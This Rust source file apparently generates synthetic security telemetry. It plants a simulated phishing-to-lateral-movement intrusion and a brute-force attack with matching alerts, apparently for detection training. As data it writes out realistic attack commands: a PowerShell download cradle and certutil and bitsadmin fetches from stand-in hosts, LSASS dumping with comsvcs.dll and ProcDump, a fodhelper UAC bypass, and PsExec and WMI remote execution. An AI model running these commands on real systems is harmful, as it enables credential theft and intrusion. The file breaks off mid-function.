//! The planted attack stories (see the module documentation of `demo` for the timeline),
//! written as one intrusion across mail, identity and endpoint tables plus an unrelated
//! brute-force attack on the jump server, each with matching alerts and evidence.

use super::benign::{
    dev_ip, dev_name, ensure_workday, identity, image_path, inbound, rdp_session, user_name,
};
use super::org::{EGRESS_IP, NETWORK_SERVICE};
use super::rng::encode_powershell;
use super::world::{
    AlertRec, DAY, DevEv, Elev, EmailUrl, EvidenceRec, HOUR, LogonEv, MIN, SEC, Sess, UrlClick,
    World,
};

/// The phishing victim's workstation and account.
pub const VICTIM_DEVICE: &str = "wks-017.contoso.local";
pub const VICTIM_ACCOUNT: &str = "jhale";
pub const VICTIM_UPN: &str = "jhale@contoso.com";
/// The phishing mail.
pub const PHISH_SENDER: &str = "billing@contoso-billing.example";
pub const PHISH_DOMAIN: &str = "contoso-billing.example";
pub const PHISH_SUBJECT: &str = "Overdue invoice INV-20931 - action required";
pub const PHISH_URL: &str = "https://contoso-billing.example/invoices/INV-20931";
/// The attacker's staging server and what it served.
pub const STAGING_HOST: &str = "cdn.contoso-billing.example";
pub const STAGING_IP: &str = "198.51.100.23";
pub const PAYLOAD_URL: &str = "http://cdn.contoso-billing.example/dl/payload.exe";
pub const IMPLANT_PATH: &str = r"C:\Users\Public\Libraries\updsvc.exe";
/// Where the implant beacons to, every five minutes.
pub const C2_IP: &str = "203.0.113.77";
pub const C2_HOST: &str = "sync.updsvc-cdn.example";
/// The admin account whose credentials were stolen and reused.
pub const STOLEN_ADMIN: &str = "adm-tkowalski";
/// The brute-force attack on the jump server.
pub const BRUTE_FORCE_IP: &str = "203.0.113.45";
pub const BRUTE_FORCE_TARGET: &str = "srv-jump01.contoso.local";
pub const BRUTE_FORCED_ACCOUNT: &str = "svc-backup";

const MDE: &str = "Microsoft Defender for Endpoint";
const MDO: &str = "Microsoft Defender for Office 365";
const MDI: &str = "Microsoft Defender for Identity";

pub(crate) fn plant(w: &mut World) {
    let today = w.today();
    precursor(w, today - 8 * DAY);
    let implant = intrusion_day(w, today - 6 * DAY);
    credential_theft_and_lateral_movement(w, implant, today - 5 * DAY);
    brute_force(w, today - 2 * DAY);
    unwanted_software(w, today);
}

/// Eight days back, 10:05 UTC: the helpdesk admin RDPs into wks-017 with adm-tkowalski to fix
/// something, leaving the admin's credentials in the workstation's LSASS.
fn precursor(w: &mut World, day: i64) {
    let src = w.org.device("wks-030");
    let target = w.org.device("wks-017");
    let admin = w.org.account(STOLEN_ADMIN);
    let wd = ensure_workday(w, src, day);
    rdp_session(w, wd, admin, target, day + 10 * HOUR + 5 * MIN);
}

/// Six days back, from 09:02 UTC: phishing mail, click, macro document, encoded PowerShell,
/// certutil and bitsadmin downloads, the implant and its Run key, then beaconing until now.
/// Returns the implant's process.
fn intrusion_day(w: &mut World, day: i64) -> u32 {
    let wks = w.org.device("wks-017");
    let jhale = w.org.account(VICTIM_ACCOUNT);
    let wd = ensure_workday(w, wks, day);
    let sess = Sess {
        acct: jhale,
        ..wd.sess
    };
    let t0 = day + 9 * HOUR + 2 * MIN;

    // (a) The mail reaches four people in finance; only Jordan clicks.
    let mut victim_nmid = String::new();
    for (i, name) in [VICTIM_ACCOUNT, "abrooks", "cdunn", "dellis"]
        .into_iter()
        .enumerate()
    {
        let acct = w.org.account(name);
        let (upn, oid) = {
            let a = &w.org.accounts[acct as usize];
            (a.upn.clone(), a.object_id.clone())
        };
        let ts = t0 + i as i64 * 3 * SEC;
        let mut ev = inbound(
            w,
            ts,
            PHISH_SENDER,
            PHISH_DOMAIN,
            &upn,
            &oid,
            PHISH_SUBJECT.to_string(),
            1,
        );
        ev.from_name = "Contoso Billing".to_string();
        ev.sender_ip = "198.51.100.61".to_string();
        ev.auth = r#"{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}"#;
        ev.bcl = Some(0);
        ev.attachments = 0;
        let nmid = ev.nmid.clone();
        if name == VICTIM_ACCOUNT {
            victim_nmid = nmid.clone();
        }
        w.emails.push(ev);
        let report_id = w.report_id();
        w.email_urls.push(EmailUrl {
            ts,
            nmid,
            url: PHISH_URL.to_string(),
            domain: PHISH_DOMAIN.to_string(),
            report_id,
        });
    }
    let click = t0 + 14 * MIN + 10 * SEC;
    let report_id = w.report_id();
    w.clicks.push(UrlClick {
        ts: click,
        url: PHISH_URL.to_string(),
        action: "ClickAllowed",
        upn: VICTIM_UPN.to_string(),
        nmid: victim_nmid.clone(),
        threat_types: "",
        ip: EGRESS_IP.to_string(),
        chain: format!(r#"["{PHISH_URL}"]"#),
        report_id,
    });
    w.dev_events.push(DevEv {
        ts: click,
        proc: wd.outlook,
        action: "BrowserLaunchedToOpenUrl",
        remote_url: PHISH_URL.to_string(),
        ..DevEv::default()
    });
    let edge_path = image_path(w, "msedge.exe");
    let edge = w.spawn(
        sess,
        Some(wd.outlook),
        "msedge.exe",
        format!(r#""{edge_path}" --single-argument {PHISH_URL}"#),
        click + SEC,
    );
    w.connect(click + 2 * SEC, edge, STAGING_IP, 443, PHISH_DOMAIN);
    let doc = r"C:\Users\jhale\Downloads\INV-20931.docm";
    let ev = w.file(click + 40 * SEC, edge, "FileCreated", doc, 48_640);
    ev.origin_url = "https://contoso-billing.example/invoices/INV-20931.docm".to_string();
    ev.referrer = PHISH_URL.to_string();
    ev.origin_ip = STAGING_IP.to_string();
    let word_path = image_path(w, "WINWORD.EXE");
    let t_word = click + 75 * SEC;
    let word = w.spawn(
        sess,
        Some(edge),
        "WINWORD.EXE",
        format!(r#""{word_path}" /n "{doc}" /o """#),
        t_word,
    );
    w.image_load(t_word + 3 * SEC, word, "VBE7.DLL");

    // (b) The macro starts hidden, encoded PowerShell.
    let script = "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $w.DownloadString('http://cdn.contoso-billing.example/s/i.ps1')";
    let t_ps = t_word + 20 * SEC;
    let ps = w.spawn_console(
        sess,
        Some(word),
        "powershell.exe",
        format!(
            "powershell.exe -nop -w hidden -enc {}",
            encode_powershell(script)
        ),
        t_ps,
    );
    w.image_load(t_ps + SEC / 2, ps, "System.Management.Automation.dll");
    w.image_load(t_ps + SEC / 2, ps, "amsi.dll");
    for (k, command) in ["New-Object", "Invoke-Expression"].into_iter().enumerate() {
        w.dev_events.push(DevEv {
            ts: t_ps + (k as i64 + 1) * SEC,
            proc: ps,
            action: "PowerShellCommand",
            additional: format!(r#"{{"Command":"{command}"}}"#),
            ..DevEv::default()
        });
    }
    w.connect(t_ps + 2 * SEC, ps, STAGING_IP, 80, STAGING_HOST);

    // (c) Living off the land: certutil fetches the implant, bitsadmin a tool bundle.
    let t_cu = t_ps + 2 * MIN;
    let cu_args = format!(r"-urlcache -split -f {PAYLOAD_URL} {IMPLANT_PATH}");
    let cmd = w.spawn_console(
        sess,
        Some(ps),
        "cmd.exe",
        format!(r#""C:\Windows\system32\cmd.exe" /c certutil.exe {cu_args}"#),
        t_cu,
    );
    let cu = w.spawn(
        sess,
        Some(cmd),
        "certutil.exe",
        format!("certutil.exe  {cu_args}"),
        t_cu + SEC,
    );
    w.connect(t_cu + 2 * SEC, cu, STAGING_IP, 80, STAGING_HOST);
    let implant_image = w.org.image("updsvc.exe");
    let ev = w.file(t_cu + 4 * SEC, cu, "FileCreated", IMPLANT_PATH, 287_744);
    ev.origin_url = PAYLOAD_URL.to_string();
    ev.origin_ip = STAGING_IP.to_string();
    same_digests(w, implant_image);
    let cache = format!(
        r"C:\Users\jhale\AppData\LocalLow\Microsoft\CryptnetUrlCache\Content\{}",
        w.rng.hex(32).to_ascii_uppercase()
    );
    w.file(t_cu + 4 * SEC, cu, "FileCreated", &cache, 287_744);

    let t_bits = t_cu + 2 * MIN;
    let bits_args = r"/transfer upd /download /priority high http://cdn.contoso-billing.example/dl/tools.zip C:\Users\Public\Libraries\tools.zip";
    let cmd2 = w.spawn_console(
        sess,
        Some(ps),
        "cmd.exe",
        format!(r#""C:\Windows\system32\cmd.exe" /c bitsadmin {bits_args}"#),
        t_bits,
    );
    w.spawn(
        sess,
        Some(cmd2),
        "bitsadmin.exe",
        format!("bitsadmin  {bits_args}"),
        t_bits + SEC,
    );
    let bits_svc = w.roots[wks as usize].svc_netsvcs;
    w.connect(t_bits + 3 * SEC, bits_svc, STAGING_IP, 80, STAGING_HOST);
    let ev = w.file(
        t_bits + 9 * SEC,
        bits_svc,
        "FileCreated",
        r"C:\Users\Public\Libraries\tools.zip",
        1_150_976,
    );
    ev.origin_url = "http://cdn.contoso-billing.example/dl/tools.zip".to_string();
    ev.origin_ip = STAGING_IP.to_string();
    for tool in ["PsExec64.exe", "procdump64.exe"] {
        let image = w.org.image(tool);
        let size = w.org.images[image as usize].spec.size;
        w.file(
            t_bits + 30 * SEC,
            ps,
            "FileCreated",
            &format!(r"C:\Users\Public\Libraries\{tool}"),
            size,
        );
        same_digests(w, image);
    }

    let t_run = t_bits + 2 * MIN;
    let implant_cmd = format!(r#""{IMPLANT_PATH}" -k netsvc"#);
    let implant = w.spawn(sess, Some(ps), "updsvc.exe", implant_cmd.clone(), t_run);
    let sid = w.org.accounts[jhale as usize].sid.clone();
    let run_key = format!(r"HKEY_CURRENT_USER\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run");
    w.registry(
        t_run + 20 * SEC,
        ps,
        run_key.clone(),
        "UpdateService",
        implant_cmd.clone(),
    );

    // (g) Beaconing every five minutes, a little jitter, until now.
    let mut t = t_run + 40 * SEC;
    while t <= w.now {
        w.connect(t, implant, C2_IP, 443, C2_HOST);
        t += 5 * MIN + w.rng.jitter(20 * SEC);
    }

    // Alerts.
    let a = alert(
        w,
        click + 35 * MIN,
        "User clicked a link in a phishing email",
        "InitialAccess",
        "High",
        MDO,
        MDO,
        r#"["Spearphishing Link (T1566.002)"]"#,
    );
    let e = evidence(w, a, "MailMessage", "Related");
    e.nmid = victim_nmid;
    e.subject = PHISH_SUBJECT.to_string();
    e.acct = Some(jhale);
    evidence(w, a, "Url", "Related").remote_url = PHISH_URL.to_string();
    evidence(w, a, "User", "Impacted").acct = Some(jhale);

    let a = alert(
        w,
        t_ps + 40 * SEC,
        "Office application launched encoded PowerShell",
        "Execution",
        "High",
        MDE,
        "EDR",
        r#"["PowerShell (T1059.001)","Obfuscated Files or Information (T1027)","Malicious File (T1204.002)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(wks);
    evidence(w, a, "User", "Impacted").acct = Some(jhale);
    evidence_proc(w, a, word, "Related");
    evidence_proc(w, a, ps, "Related");
    let e = evidence(w, a, "File", "Related");
    e.file_name = "INV-20931.docm".to_string();
    e.path = doc.to_string();

    let a = alert(
        w,
        t_cu + 90 * SEC,
        "Suspicious file download by certutil",
        "CommandAndControl",
        "Medium",
        MDE,
        "EDR",
        r#"["Ingress Tool Transfer (T1105)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(wks);
    evidence_proc(w, a, cu, "Related");
    evidence_file(w, a, implant_image, IMPLANT_PATH);
    evidence(w, a, "Url", "Related").remote_url = PAYLOAD_URL.to_string();
    evidence(w, a, "Ip", "Related").remote_ip = STAGING_IP.to_string();

    let a = alert(
        w,
        t_run + 2 * MIN,
        "Unknown executable added to a Run key",
        "Persistence",
        "Medium",
        MDE,
        "EDR",
        r#"["Registry Run Keys / Startup Folder (T1547.001)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(wks);
    let e = evidence(w, a, "RegistryValue", "Related");
    e.reg_key = run_key;
    e.reg_name = "UpdateService".to_string();
    e.reg_data = implant_cmd;
    evidence_proc(w, a, implant, "Related");

    let a = alert(
        w,
        t_run + 20 * HOUR,
        "Periodic connections to a rare external address",
        "CommandAndControl",
        "Medium",
        MDE,
        "EDR",
        r#"["Application Layer Protocol (T1071)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(wks);
    evidence_proc(w, a, implant, "Related");
    let e = evidence(w, a, "Ip", "Related");
    e.remote_ip = C2_IP.to_string();
    e.remote_url = C2_HOST.to_string();
    implant
}

/// Five days back, from 13:30 UTC: discovery, a UAC bypass, an LSASS dump with comsvcs.dll,
/// then PsExec with the stolen admin to srv-file01 (ProcDump of its LSASS) and WMI to
/// srv-app01.
fn credential_theft_and_lateral_movement(w: &mut World, implant: u32, day: i64) {
    let wks = w.org.device("wks-017");
    let fs = w.org.device("srv-file01");
    let app = w.org.device("srv-app01");
    let jhale = w.org.account(VICTIM_ACCOUNT);
    let admin = w.org.account(STOLEN_ADMIN);
    let Some(sess) = w.proc(implant).map(|p| Sess {
        dev: p.dev,
        acct: p.acct,
        logon_id: p.logon_id,
        elev: p.elev,
        session: p.session,
    }) else {
        return;
    };
    let wks_ip = dev_ip(w, wks);
    let wks_name = dev_name(w, wks);
    let t1 = day + 13 * HOUR + 30 * MIN;

    let shell = w.spawn_console(
        sess,
        Some(implant),
        "cmd.exe",
        r"C:\Windows\system32\cmd.exe",
        t1,
    );
    let net = w.spawn(
        sess,
        Some(shell),
        "net.exe",
        r#"net  group "domain admins" /domain"#,
        t1 + 40 * SEC,
    );
    w.spawn(
        sess,
        Some(net),
        "net1.exe",
        r#"C:\Windows\system32\net1  group "domain admins" /domain"#,
        t1 + 41 * SEC,
    );
    w.spawn(
        sess,
        Some(shell),
        "whoami.exe",
        "whoami  /all",
        t1 + 20 * SEC,
    );
    w.spawn(
        sess,
        Some(shell),
        "nltest.exe",
        "nltest  /dclist:contoso.local",
        t1 + 90 * SEC,
    );

    // UAC bypass through the ms-settings handler and fodhelper.
    let sid = w.org.accounts[jhale as usize].sid.clone();
    let t_uac = t1 + 6 * MIN;
    let handler = format!(r"HKEY_CURRENT_USER\{sid}_Classes\ms-settings\Shell\Open\command");
    w.registry(
        t_uac,
        implant,
        handler.clone(),
        "(Default)",
        r"C:\Windows\system32\cmd.exe".to_string(),
    );
    w.registry(
        t_uac + SEC,
        implant,
        handler.clone(),
        "DelegateExecute",
        String::new(),
    );
    let fod = w.spawn(
        sess,
        Some(shell),
        "fodhelper.exe",
        "fodhelper.exe",
        t_uac + 10 * SEC,
    );
    let elevated = sess.elevated();
    let ecmd = w.spawn_console(
        elevated,
        Some(fod),
        "cmd.exe",
        r#""C:\Windows\system32\cmd.exe" "#,
        t_uac + 11 * SEC,
    );

    // (d) LSASS dump with comsvcs.dll MiniDump.
    let lsass = w.roots[wks as usize].lsass;
    let lsass_pid = w.proc(lsass).map_or(0, |p| p.pid);
    let t_dump = t1 + 10 * MIN;
    let rd = w.spawn(
        elevated,
        Some(ecmd),
        "rundll32.exe",
        format!(r"rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump {lsass_pid} C:\Users\Public\Libraries\d.dmp full"),
        t_dump,
    );
    w.image_load(t_dump + SEC / 10, rd, "comsvcs.dll");
    w.image_load(t_dump + SEC / 5, rd, "dbgcore.dll");
    lsass_access(w, t_dump + SEC, rd, lsass);
    w.file(
        t_dump + 3 * SEC,
        rd,
        "FileCreated",
        r"C:\Users\Public\Libraries\d.dmp",
        54_312_960,
    );

    // (e) PsExec to srv-file01 with the stolen admin, copying ProcDump across.
    let t_px = t1 + 35 * MIN;
    let px = w.spawn(
        elevated,
        Some(ecmd),
        "PsExec64.exe",
        r"PsExec64.exe  -accepteula \\srv-file01 -u contoso\adm-tkowalski -s -c C:\Users\Public\Libraries\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\fs01.dmp",
        t_px,
    );
    if let Some(p) = w.procs.get_mut(px as usize) {
        p.path = Some(r"C:\Users\Public\Libraries\PsExec64.exe".to_string());
    }
    let fr = w.roots[fs as usize];
    w.connect(t_px + SEC, px, "10.0.0.20", 445, "");
    w.accept(t_px + SEC, fr.system, &wks_ip, 445);
    network_logon(w, fs, admin, &wks_ip, &wks_name, t_px + 2 * SEC);
    identity(w, t_px + 2 * SEC, "LogonSuccess", admin, wks, Some(fs), "");
    if let Some(last) = w.id_logons.last_mut() {
        last.protocol = "Ntlm";
        last.dest_port = 445;
    }
    for (name, t) in [
        ("PSEXESVC.exe", t_px + 3 * SEC),
        ("procdump64.exe", t_px + 4 * SEC),
    ] {
        let image = w.org.image(name);
        let size = w.org.images[image as usize].spec.size;
        let port = w.ephemeral_port();
        let ev = w.file(
            t,
            fr.system,
            "FileCreated",
            &format!(r"C:\Windows\{name}"),
            size,
        );
        ev.req_protocol = "SMB";
        ev.req_ip = wks_ip.clone();
        ev.req_port = Some(port);
        ev.req_acct = Some(admin);
        ev.share = "ADMIN$";
        same_digests(w, image);
    }
    w.dev_events.push(DevEv {
        ts: t_px + 5 * SEC,
        proc: fr.services,
        action: "ServiceInstalled",
        file_name: "PSEXESVC.exe".to_string(),
        path: r"C:\Windows\PSEXESVC.exe".to_string(),
        additional: r#"{"ServiceName":"PSEXESVC","ServiceAccount":"LocalSystem","ServiceStartType":3,"ServiceType":"Service"}"#
            .to_string(),
        ..DevEv::default()
    });
    let fsys = World::system(fs);
    let svc = w.spawn(
        fsys,
        Some(fr.services),
        "PSEXESVC.exe",
        r"C:\Windows\PSEXESVC.exe",
        t_px + 6 * SEC,
    );
    let t_pd = t_px + 8 * SEC;
    let pd = w.spawn(
        fsys,
        Some(svc),
        "procdump64.exe",
        r#""C:\Windows\procdump64.exe" -accepteula -ma lsass.exe C:\Windows\Temp\fs01.dmp"#,
        t_pd,
    );
    w.image_load(t_pd + SEC / 5, pd, "dbgcore.dll");
    lsass_access(w, t_pd + SEC, pd, fr.lsass);
    w.file(
        t_pd + 4 * SEC,
        pd,
        "FileCreated",
        r"C:\Windows\Temp\fs01.dmp",
        61_865_984,
    );

    // (e) WMI to srv-app01.
    let t_wmi = t1 + 60 * MIN;
    let wm = w.spawn(
        elevated,
        Some(ecmd),
        "WMIC.exe",
        r#"wmic  /node:srv-app01 /user:contoso\adm-tkowalski process call create "cmd.exe /c whoami /groups > C:\Windows\Temp\w.txt""#,
        t_wmi,
    );
    let ar = w.roots[app as usize];
    w.connect(t_wmi + SEC, wm, "10.0.0.21", 135, "");
    w.accept(t_wmi + SEC, ar.svc_dcom, &wks_ip, 135);
    let admin_logon = network_logon(w, app, admin, &wks_ip, &wks_name, t_wmi + 2 * SEC);
    identity(
        w,
        t_wmi + 2 * SEC,
        "LogonSuccess",
        admin,
        wks,
        Some(app),
        "",
    );
    if let Some(last) = w.id_logons.last_mut() {
        last.protocol = "Ntlm";
        last.dest_port = 445;
    }
    let ns = Sess {
        dev: app,
        acct: NETWORK_SERVICE,
        logon_id: 996,
        elev: Elev::System,
        session: 0,
    };
    let wmiprvse = w.spawn(
        ns,
        Some(ar.svc_dcom),
        "WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        t_wmi + 3 * SEC,
    );
    let asess = Sess {
        dev: app,
        acct: admin,
        logon_id: admin_logon,
        elev: Elev::Full,
        session: 0,
    };
    let rcmd = w.spawn_console(
        asess,
        Some(wmiprvse),
        "cmd.exe",
        r"cmd.exe /c whoami /groups > C:\Windows\Temp\w.txt",
        t_wmi + 4 * SEC,
    );
    w.spawn(
        asess,
        Some(rcmd),
        "whoami.exe",
        "whoami  /groups",
        t_wmi + 5 * SEC,
    );
    w.file(
        t_wmi + 5 * SEC,
        rcmd,
        "FileCreated",
        r"C:\Windows\Temp\w.txt",
        2_412,
    );
    w.dev_events.push(DevEv {
        ts: t_wmi + 4 * SEC,
        proc: wmiprvse,
        action: "ProcessCreatedUsingWmiQuery",
        target: Some(rcmd),
        acct: Some(admin),
        additional: r#"{"Namespace":"root\\cimv2","Method":"Win32_Process::Create"}"#.to_string(),
        ..DevEv::default()
    });

    // Alerts.
    let a = alert(
        w,
        t_uac + 40 * SEC,
        "UAC bypass through the ms-settings handler",
        "PrivilegeEscalation",
        "Medium",
        MDE,
        "EDR",
        r#"["Bypass User Account Control (T1548.002)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(wks);
    let e = evidence(w, a, "RegistryValue", "Related");
    e.reg_key = handler;
    e.reg_name = "(Default)".to_string();
    e.reg_data = r"C:\Windows\system32\cmd.exe".to_string();
    evidence_proc(w, a, fod, "Related");

    let a = alert(
        w,
        t_dump + 30 * SEC,
        "LSASS memory dumped with comsvcs.dll",
        "CredentialAccess",
        "High",
        MDE,
        "EDR",
        r#"["OS Credential Dumping: LSASS Memory (T1003.001)","Rundll32 (T1218.011)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(wks);
    evidence(w, a, "User", "Impacted").acct = Some(jhale);
    evidence_proc(w, a, rd, "Related");
    let e = evidence(w, a, "File", "Related");
    e.file_name = "d.dmp".to_string();
    e.path = r"C:\Users\Public\Libraries\d.dmp".to_string();

    let a = alert(
        w,
        t_px + MIN,
        "Remote service execution with PsExec",
        "LateralMovement",
        "Medium",
        MDE,
        "EDR",
        r#"["Service Execution (T1569.002)","SMB/Windows Admin Shares (T1021.002)"]"#,
    );
    evidence(w, a, "Machine", "Related").dev = Some(wks);
    evidence(w, a, "Machine", "Impacted").dev = Some(fs);
    evidence(w, a, "User", "Related").acct = Some(admin);
    evidence_proc(w, a, px, "Related");
    evidence_proc(w, a, svc, "Related");

    let a = alert(
        w,
        t_pd + 40 * SEC,
        "LSASS memory dumped with ProcDump",
        "CredentialAccess",
        "High",
        MDE,
        "EDR",
        r#"["OS Credential Dumping: LSASS Memory (T1003.001)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(fs);
    evidence_proc(w, a, pd, "Related");

    let a = alert(
        w,
        t_wmi + 10 * MIN,
        "Admin account used over NTLM from an unusual workstation",
        "LateralMovement",
        "High",
        MDI,
        MDI,
        r#"["Use Alternate Authentication Material: Pass the Hash (T1550.002)"]"#,
    );
    evidence(w, a, "User", "Impacted").acct = Some(admin);
    evidence(w, a, "Machine", "Related").dev = Some(wks);
    evidence(w, a, "Machine", "Impacted").dev = Some(fs);
    evidence(w, a, "Machine", "Impacted").dev = Some(app);

    let a = alert(
        w,
        t_wmi + MIN,
        "Remote process creation through WMI",
        "LateralMovement",
        "Medium",
        MDE,
        "EDR",
        r#"["Windows Management Instrumentation (T1047)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(app);
    evidence(w, a, "User", "Related").acct = Some(admin);
    evidence_proc(w, a, wm, "Related");
    evidence_proc(w, a, rcmd, "Related");
}

/// A network logon on `dev` by `acct` from another of our machines; returns its logon id.
fn network_logon(
    w: &mut World,
    dev: u16,
    acct: u16,
    from_ip: &str,
    from_name: &str,
    ts: i64,
) -> i64 {
    let logon_id = w.rng.range(0x10_0000, 0x800_0000);
    let port = w.ephemeral_port();
    let lsass = w.roots[dev as usize].lsass;
    w.logons.push(LogonEv {
        ts,
        dev,
        proc: Some(lsass),
        action: "LogonSuccess",
        logon_type: "Network",
        acct,
        protocol: "NTLM",
        local_admin: Some(true),
        logon_id: Some(logon_id),
        remote_device: from_name.to_string(),
        remote_ip: from_ip.to_string(),
        remote_ip_type: "Private",
        remote_port: Some(port),
        ..LogonEv::default()
    });
    logon_id
}

/// An open-process call against LSASS, and the attack surface reduction audit it triggers.
fn lsass_access(w: &mut World, ts: i64, proc: u32, lsass: u32) {
    w.dev_events.push(DevEv {
        ts,
        proc,
        action: "OpenProcessApiCall",
        target: Some(lsass),
        additional: r#"{"DesiredAccess":2097151}"#.to_string(),
        ..DevEv::default()
    });
    w.dev_events.push(DevEv {
        ts,
        proc,
        action: "AsrLsassCredentialTheftAudited",
        target: Some(lsass),
        additional: r#"{"IsAudit":true}"#.to_string(),
        ..DevEv::default()
    });
}

/// Two days back, 01:50–02:02 UTC: 42 failed network logons on srv-jump01 from one address
/// against a handful of names, then a success for svc-backup, an RDP session and discovery.
fn brute_force(w: &mut World, day: i64) {
    let jump = w.org.device("srv-jump01");
    let r = w.roots[jump as usize];
    let target = w.org.account(BRUTE_FORCED_ACCOUNT);
    let names = [
        "administrator",
        "admin",
        "svc-backup",
        "test",
        "scan",
        "svc-sql",
        "rdpuser",
        "sqladmin",
        "user1",
    ];
    let t0 = day + HOUR + 50 * MIN;
    let mut t = t0;
    for i in 0..42 {
        t = t0 + i * 15 * SEC + w.rng.range(0, 4 * SEC);
        let acct = w.org.account(names[i as usize % names.len()]);
        if i % 6 == 0 {
            w.accept(t - SEC, r.svc_netsvcs, BRUTE_FORCE_IP, 3389);
        }
        let port = w.ephemeral_port();
        w.logons.push(LogonEv {
            ts: t,
            dev: jump,
            proc: Some(r.lsass),
            action: "LogonFailed",
            logon_type: "Network",
            acct,
            protocol: "NTLM",
            failure: "InvalidUserNameOrPassword",
            remote_ip: BRUTE_FORCE_IP.to_string(),
            remote_ip_type: "Public",
            remote_port: Some(port),
            ..LogonEv::default()
        });
        if w.org.accounts[acct as usize].exists {
            brute_identity(w, t + SEC / 2, "LogonFailed", acct, jump, "WrongPassword");
        }
    }
    let t_ok = t + 40 * SEC;
    let logon_id = w.rng.range(0x10_0000, 0x800_0000);
    for (k, logon_type) in ["Network", "RemoteInteractive"].into_iter().enumerate() {
        let port = w.ephemeral_port();
        w.logons.push(LogonEv {
            ts: t_ok + k as i64 * 15 * SEC,
            dev: jump,
            proc: Some(r.lsass),
            action: "LogonSuccess",
            logon_type,
            acct: target,
            protocol: if k == 0 { "NTLM" } else { "Negotiate" },
            local_admin: Some(true),
            logon_id: Some(logon_id + k as i64),
            remote_ip: BRUTE_FORCE_IP.to_string(),
            remote_ip_type: "Public",
            remote_port: Some(port),
            ..LogonEv::default()
        });
    }
    brute_identity(w, t_ok, "LogonSuccess", target, jump, "");
    let sess = Sess {
        dev: jump,
        acct: target,
        logon_id: logon_id + 1,
        elev: Elev::Full,
        session: 3,
    };
    let ts = t_ok + 20 * SEC;
    let ui = w.spawn(
        sess,
        Some(r.winlogon),
        "userinit.exe",
        r"C:\Windows\system32\userinit.exe",
        ts,
    );
    let ex = w.spawn(
        sess,
        Some(ui),
        "explorer.exe",
        r"C:\Windows\Explorer.EXE",
        ts + 2 * SEC,
    );
    w.spawn(
        sess,
        Some(r.svc_netsvcs),
        "rdpclip.exe",
        "rdpclip",
        ts + 3 * SEC,
    );
    let cmd = w.spawn_console(
        sess,
        Some(ex),
        "cmd.exe",
        r#""C:\Windows\system32\cmd.exe" "#,
        ts + 2 * MIN,
    );
    let net = w.spawn(
        sess,
        Some(cmd),
        "net.exe",
        "net  user /domain",
        ts + 2 * MIN + 20 * SEC,
    );
    w.spawn(
        sess,
        Some(net),
        "net1.exe",
        r"C:\Windows\system32\net1  user /domain",
        ts + 2 * MIN + 21 * SEC,
    );
    w.spawn(
        sess,
        Some(cmd),
        "nltest.exe",
        "nltest  /domain_trusts",
        ts + 3 * MIN,
    );
    w.spawn(
        sess,
        Some(cmd),
        "quser.exe",
        "quser",
        ts + 3 * MIN + 30 * SEC,
    );

    let a = alert(
        w,
        t_ok + 3 * MIN,
        "Multiple failed logons followed by a successful logon",
        "CredentialAccess",
        "High",
        MDE,
        "EDR",
        r#"["Brute Force (T1110)","External Remote Services (T1133)"]"#,
    );
    evidence(w, a, "Machine", "Impacted").dev = Some(jump);
    evidence(w, a, "User", "Impacted").acct = Some(target);
    evidence(w, a, "Ip", "Related").remote_ip = BRUTE_FORCE_IP.to_string();
}

fn brute_identity(
    w: &mut World,
    ts: i64,
    action: &'static str,
    acct: u16,
    jump: u16,
    failure: &'static str,
) {
    let report_id = w.report_id();
    let port = w.ephemeral_port();
    w.id_logons.push(super::world::IdLogon {
        ts,
        action,
        logon_type: "Credentials validation",
        protocol: "Ntlm",
        failure,
        acct,
        dev: None,
        ip: BRUTE_FORCE_IP.to_string(),
        port,
        dest_port: 445,
        target: Some(jump),
        additional: r#"{"Count":"1"}"#.to_string(),
        report_id,
    });
}

/// Background alerts: two users download bundled installers that antivirus blocks.
fn unwanted_software(w: &mut World, today: i64) {
    for (short, back) in [("wks-009", 19), ("wks-023", 11)] {
        let dev = w.org.device(short);
        let day = today - back * DAY;
        let wd = ensure_workday(w, dev, day);
        let user = user_name(w, wd.sess.acct);
        let ts = wd.logon + 2 * HOUR + w.rng.range(0, HOUR);
        let path = format!(r"C:\Users\{user}\Downloads\FreePdfConverterSetup.exe");
        let ev = w.file(ts, wd.explorer, "FileCreated", &path, 2_318_336);
        ev.origin_url =
            "https://free-pdf-tools.example/download/FreePdfConverterSetup.exe".to_string();
        ev.origin_ip = "198.51.100.140".to_string();
        let (sha1, sha256, md5) = (ev.sha1.clone(), ev.sha256.clone(), ev.md5.clone());
        let msmpeng = w.roots[dev as usize].msmpeng;
        w.dev_events.push(DevEv {
            ts: ts + 2 * SEC,
            proc: msmpeng,
            action: "AntivirusDetection",
            file_name: "FreePdfConverterSetup.exe".to_string(),
            path: path.clone(),
            sha1: sha1.clone(),
            sha256: sha256.clone(),
            md5,
            acct: Some(wd.sess.acct),
            additional: r#"{"ThreatName":"PUA:Win32/InstallCore","WasRemediated":true,"Action":"quarantine"}"#.to_string(),
            ..DevEv::default()
        });
        let a = alert(
            w,
            ts + 3 * SEC,
            "Potentially unwanted application blocked",
            "UnwantedSoftware",
            "Low",
            MDE,
            "Antivirus",
            "[]",
        );
        evidence(w, a, "Machine", "Impacted").dev = Some(dev);
        let e = evidence(w, a, "File", "Impacted");
        e.file_name = "FreePdfConverterSetup.exe".to_string();
        e.path = path;
        e.sha1 = sha1;
        e.sha256 = sha256;
        e.size = Some(2_318_336);
    }
}

/// Give the last file event the digests of a catalog image (the same file as the process).
fn same_digests(w: &mut World, image: u16) {
    let Some(img) = w.org.images.get(image as usize) else {
        return;
    };
    let (sha1, sha256, md5) = (img.sha1.clone(), img.sha256.clone(), img.md5.clone());
    if let Some(ev) = w.files.last_mut() {
        ev.sha1 = sha1;
        ev.sha256 = sha256;
